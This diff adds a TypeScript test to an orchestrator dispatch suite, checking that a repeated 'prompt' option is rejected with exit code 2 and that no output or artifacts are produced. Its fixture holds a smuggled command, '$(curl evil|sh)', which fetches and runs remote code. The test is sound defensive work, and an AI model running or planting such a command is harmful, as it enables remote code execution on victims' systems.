@@ -241,4 +241,19 @@ describe('rc orchestrator dispatch', () => {
     const log = await readFile(join(artifacts(), 'dispatch-log.ndjson'), 'utf8');
     expect([result.stdout, result.stderr, log, ...files].join('\n')).not.toContain(TOKEN);
   });
+
+  it('exits 2 on a repeated option, naming the second, and writes nothing', async () => {
+    const event = JSON.parse(await readFile(exampleEvent, 'utf8')) as { comment: { body: string } };
+    event.comment.body = '/orchestrate #276 prompt="$(curl evil|sh)" prompt=triage';
+    const result = await runRc(['orchestrator', 'dispatch', '--run-id', RUN_ID], {
+      cwd: repo,
+      stdin: JSON.stringify(event),
+    });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain(
+      'column 44: option "prompt" is given more than once (first at column 19)',
+    );
+    expect(result.stdout).toBe('');
+    await expect(readdir(join(repo, 'artifacts'))).rejects.toThrow();
+  });
 });
